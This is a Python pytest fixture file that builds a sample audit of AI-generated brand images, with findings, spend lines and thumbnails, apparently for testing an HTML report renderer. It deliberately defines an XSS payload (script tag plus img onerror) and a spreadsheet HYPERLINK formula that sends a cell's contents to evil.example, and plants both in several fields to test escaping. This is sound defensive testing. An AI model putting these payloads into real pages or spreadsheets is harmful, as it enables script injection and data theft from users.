"""An audit to render: pictures of two brands, findings of every kind, an audit before it."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from PIL import Image as Pillow

from flows.brand.model import Brand, Colour
from flows.checks.finding import Finding, Ran, Severity, Skipped
from flows.checks.subject import Image
from flows.report.audit.model import Audit, Cap, Past, Spend, SpendLine, Tone
from flows.report.audit.page import Shot, render
from flows.report.audit.sheets import spread

NOW = datetime(2026, 11, 23, 7, 30, tzinfo=UTC)
EVIL = '<script>document.title="caught"</script>"><img src=x onerror="document.title=\'caught\'">'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
BRANDS = {
    "helio": Brand("helio", "Helio", (Colour("lemon", "#F5C518"), Colour("cream", "#FFF4E0"))),
    "nord": Brand("nord", "Nord Ferry", (Colour("deep", "#12355B"),)),
}


def image(number: int, **more: Any) -> Image:
    """The picture of that number."""
    made = Image(
        image_id=f"019f0000-0000-7000-8000-{number:012d}-0",
        variant=f"hero@language=en,format=f{number}",
        prompt_id="hero",
        brand="helio",
        campaign="summer-2027",
        prompt=f"A bottle on wet sand, number {number}",
        model="ideogram-4-5",
        width=1024,
        height=768,
        requested_at=NOW - timedelta(days=number % 20, hours=1),
        local_path=f"helio/summer-2027/hero/{number}.png",
        sha256=hashlib.sha256(str(number).encode()).hexdigest(),
        cost_usd=0.06,
    )
    return replace(made, **more)


def finding(code: str, severity: Severity, about: Image | None, message: str, **more: Any) -> Finding:
    """A finding about a picture, or about nothing in particular."""
    names: dict[str, Any] = {}
    if about is not None:
        names = {name: getattr(about, name) for name in ("image_id", "prompt_id", "variant", "brand", "campaign")}
    return Finding(code, severity, about.image_id if about else code, message, **{**names, **more})


IMAGES = (
    image(1),
    image(2, brand="nord", campaign="ferry"),
    image(3, variant="poster", lettering="SOMMER"),
    image(4, prompt=EVIL, campaign=FORMULA, variant=f"evil{EVIL}"),
    image(5, state="trashed"),
    image(6, status="withheld", state="withheld", sha256=None, local_path=None),
    image(7),
)
MISSPELT = finding(
    "lettering.misspelt",
    Severity.ERROR,
    IMAGES[2],
    "the picture says \u201csomer\u201d for \u201csommer\u201d",
    remedy="Reject it.",
    measure=0.1667,
    threshold=0.1,
    unit="character error rate",
    details={"asked": "SOMMER", "read": "SOMER", "boxes": [{"box": [0.1, 0.2, 0.6, 0.4], "text": "SOMER"}]},
)
OFF_BRAND = finding(
    "palette.low_coverage",
    Severity.WARNING,
    IMAGES[0],
    "4% of the picture shows colours of Helio; at least 10% should",
    measure=0.04,
    threshold=0.1,
    unit="share",
    details={
        "brand": [{"hex": "#F5C518", "name": "lemon", "share": 0.04}],
        "got": [{"hex": "#3366AA", "share": 0.6, "delta_e": 48.3, "nearest": "#F5C518"}],
    },
)
ASKED = finding(
    "palette.asked_missing",
    Severity.WARNING,
    IMAGES[1],
    "asked for #12355B",
    details={
        "compared": [{"asked": "#12355B", "asked_share": 0.5, "got_share": 0.01, "nearest": "#445566", "delta_e": 21.4}]
    },
)
ALIKE = finding(
    "duplicates.near",
    Severity.NOTE,
    IMAGES[0],
    "hardly to be told from another",
    related_image_id=IMAGES[6].image_id,
    measure=4.0,
    threshold=10.0,
    unit="bits",
)
TRICKY = finding("metadata.wrong", Severity.WARNING, IMAGES[3], f"odd: {EVIL}", details={"fields": [FORMULA, EVIL]})
WAIVED = finding("integrity.orphaned", Severity.NOTE, None, "old/stray.png belongs to no image")
GONE = finding("integrity.missing", Severity.ERROR, IMAGES[4], "5.png is not on storage")
UNSEEN = finding("delivery.withheld", Severity.WARNING, IMAGES[5], "was billed and withheld")
LINE = SpendLine("summer-2027", 5, 4, 300_000)


def audited() -> Audit:
    """Two checks that found something, one that found nothing, one that did not look; a week after another audit."""
    total = SpendLine("all", 7, 6, 420_000, 60_000)
    return Audit(
        audit_id="01a2057e-6639-7efa-b8f7-ab0ad7525f72",
        at=NOW,
        origin="sandbox",
        verdicts=(
            Ran("palette", 6, (OFF_BRAND, ASKED)),
            Ran("lettering", 1, (MISSPELT,)),
            Ran("duplicates", 6, (ALIKE,)),
            Ran("metadata", 7, (TRICKY,)),
            Ran("integrity", 6, (WAIVED,)),
            Skipped("delivery", "turned off in the audit policy (delivery.enabled)"),
        ),
        images=IMAGES,
        gate=Severity.ERROR,
        failing=frozenset({MISSPELT.finding_id}),
        accepted=frozenset({WAIVED.finding_id}),
        before=(GONE, OFF_BRAND, UNSEEN),
        past=(
            Past("a", NOW - timedelta(days=14), 40, {"helio": 25}),
            Past("b", NOW - timedelta(days=7), 50, {"helio": 50, "nord": 100}),
        ),
        spend=Spend(
            total,
            total,
            (LINE, SpendLine(FORMULA, 2, 2, 120_000)),
            (SpendLine("2026-11-20", 3, 3, 180_000), SpendLine("2026-11-22", 4, 3, 240_000)),
            (Cap("this month", 1_000_000, 420_000),),
        ),
        brands=BRANDS,
        shown={"helio": (Tone("#F5C518", 0.7), Tone("#3366AA", 0.3))},
    )


def thumbnail(number: int, side: int = 64) -> bytes:
    """A small picture, as the history keeps it."""
    buffer = io.BytesIO()
    picture = Pillow.new("RGB", (side, side * 3 // 4), (number * 37 % 256, number * 91 % 256, number * 53 % 256))
    picture.save(buffer, "WEBP", quality=70)
    return buffer.getvalue()


def pages(audit: Audit, shots: Mapping[str, Shot], **limits: Any) -> list[bytes]:
    """Every file of the audit."""
    pictured = [one for one in audit.images if one.status == "stored"]
    sizes = {digest: len(shot.webp) for digest, shot in shots.items()}
    sheets = spread(audit.findings, pictured, sizes, {one.image_id: one for one in audit.images})
    names = [f"page-{sheet.number}.html" for sheet in sheets]
    return list(render(audit, sheets, names, lambda wanted: {name: shots[name] for name in wanted}))


@pytest.fixture
def audit() -> Audit:
    """The audit above."""
    return audited()


@pytest.fixture(scope="session")
def shots() -> Mapping[str, Shot]:
    """Thumbnails of all its pictures but one."""
    known = [one for one in IMAGES[:6] if one.sha256]
    return {one.sha256 or "": Shot(1024, 768, thumbnail(at)) for at, one in enumerate(known)}


@pytest.fixture
def page(audit: Audit, shots: Mapping[str, Shot]) -> str:
    """Its one file."""
    (only,) = pages(audit, shots)
    return only.decode()


@pytest.fixture(scope="session")
def rendered() -> Callable[[Audit, Mapping[str, Shot]], list[bytes]]:
    """The files of any audit."""
    return pages


@pytest.fixture(scope="session")
def picture() -> Callable[..., Image]:
    """More pictures."""
    return image


@pytest.fixture(scope="session")
def found() -> Callable[..., Finding]:
    """More findings."""
    return finding
